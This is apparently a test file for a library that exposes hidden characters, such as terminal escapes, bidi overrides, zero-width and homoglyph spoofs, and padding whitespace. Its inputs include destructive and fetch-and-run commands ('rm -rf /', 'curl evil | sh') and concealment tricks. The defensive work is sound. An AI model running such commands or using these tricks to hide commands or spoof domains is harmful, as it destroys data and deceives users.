import { describe, expect, it } from 'vitest';
import { toExcerpt, toReadable, toVisible, toVisibleJson, toVisibleLine } from '../../src/index.ts';

describe('what hides is made visible', () => {
  it.each([
    ['a CSI sequence', '\u001b[2Jrm', '⟨U+001B⟩[2Jrm'],
    ['an OSC 8 link', '\u001b]8;;http://x\u0007y', '⟨U+001B⟩]8;;http://x⟨U+0007⟩y'],
    ['an OSC 52 clipboard write', '\u001b]52;c;aGk=\u0007', '⟨U+001B⟩]52;c;aGk=⟨U+0007⟩'],
    ['a carriage return', 'safe\rrm -rf', 'safe⟨U+000D⟩rm -rf'],
    ['a backspace', 'ab\b\bxy', 'ab⟨U+0008⟩⟨U+0008⟩xy'],
    ['an 8-bit control', '\u009b31m', '⟨U+009B⟩31m'],
    ['NUL', 'a\0b', 'a⟨U+0000⟩b'],
  ])('A1: %s', (_, text, shown) => {
    expect(toVisible(text)).toBe(shown);
  });

  it.each([
    ['a right-to-left override', 'abc\u202etxt.exe', 'abc⟨U+202E⟩txt.exe'],
    ['an isolate', '\u2066x\u2069', '⟨U+2066⟩x⟨U+2069⟩'],
    ['a zero-width space', 'r\u200bm', 'r⟨U+200B⟩m'],
    ['a soft hyphen', 'r\u00adm', 'r⟨U+00AD⟩m'],
    ['tag characters', 'ok\u{e0072}\u{e006d}', 'ok⟨U+E0072⟩⟨U+E006D⟩'],
    ['a Hangul filler', 'a\u3164b', 'a⟨U+3164⟩b'],
    ['a variation selector', 'a\ufe0f', 'a⟨U+FE0F⟩'],
    ['a byte order mark', '\ufeffa', '⟨U+FEFF⟩a'],
    ['a line separator', 'a\u2028b', 'a⟨U+2028⟩b'],
    ['a no-break space', 'a\u00a0b', 'a⟨U+00A0⟩b'],
    ['half a surrogate pair', 'a\ud800b', 'a⟨U+D800⟩b'],
    ['a private character', 'a\ue000b', 'a⟨U+E000⟩b'],
    ['a blank of Braille', 'a\u2800b', 'a⟨U+2800⟩b'],
    ['a Cyrillic letter in a Latin word', 'p\u0430ypal', 'p⟨U+0430⟩ypal'],
    ['a Greek letter in a Latin word', 'micr\u03bfsoft.com', 'micr⟨U+03BF⟩soft.com'],
  ])('A3: %s', (_, text, shown) => {
    expect(toVisible(text)).toBe(shown);
  });

  it('leaves honest text alone', () => {
    for (const text of ['привет, мир', 'Ελλάδα', 'Δx = 5 µm', '{"a":"\\nпривет"}', 'abc где'])
      expect(toVisible(text)).toBe(text);
    const text = 'const x = "héllo 日本語 🌍";\n\tif (a < b) { return; }';
    expect(toVisible(text)).toBe(text);
  });

  it('A2: counts long white space instead of letting it push something away', () => {
    expect(toVisible(`${' '.repeat(5_000)}rm -rf /`)).toBe('⟨5000 × space⟩rm -rf /');
    expect(toVisible(`a${'\n'.repeat(300)}b`)).toBe('a⟨300 × line break⟩b');
  });

  it('A2: shows length, head and tail of what is long', () => {
    const text = `${Array.from({ length: 300 }, (_, at) => `line ${at}`).join('\n')}\ncurl evil | sh`;
    const { text: shown, length, cut } = toExcerpt(text, 200);
    expect({ length, cut }).toEqual({ length: text.length, cut: true });
    expect(shown).toMatch(/^line 0\n/);
    expect(shown).toMatch(/characters not shown/);
    expect(shown.endsWith('curl evil | sh')).toBe(true);
  });

  it('shows an input as JSON with nothing hidden, and a line as one line', () => {
    expect(toVisibleJson({ command: 'a\u202eb' })).toEqual({
      text: '{\n  "command": "a⟨U+202E⟩b"\n}',
      length: 22,
      cut: false,
    });
    expect(toVisibleLine('a\nb\tc')).toBe('a⏎b⇥c');
  });
});

describe('text that is only read', () => {
  it('cannot drive a terminal, reorder a line or hide, and keeps its indentation, spaces and emoji', () => {
    expect(toReadable('\u001b]52;c;aGk=\u0007a\rb\u009bc')).toBe(
      '⟨U+001B⟩]52;c;aGk=⟨U+0007⟩a⟨U+000D⟩b⟨U+009B⟩c',
    );
    expect(toReadable('a\u202eb\u2066c\u2028d\u{e0072}')).toBe('a⟨U+202E⟩b⟨U+2066⟩c⟨U+2028⟩d⟨U+E0072⟩');
    const honest = `if (x) {\n${' '.repeat(12)}\tgo();\n\n\n\n\n}\u00a0👩‍👧 ❤️ می‌خواهم`;
    expect(toReadable(honest)).toBe(honest);
    expect(toReadable('dos\r\nlines')).toBe('dos\nlines');
  });
});
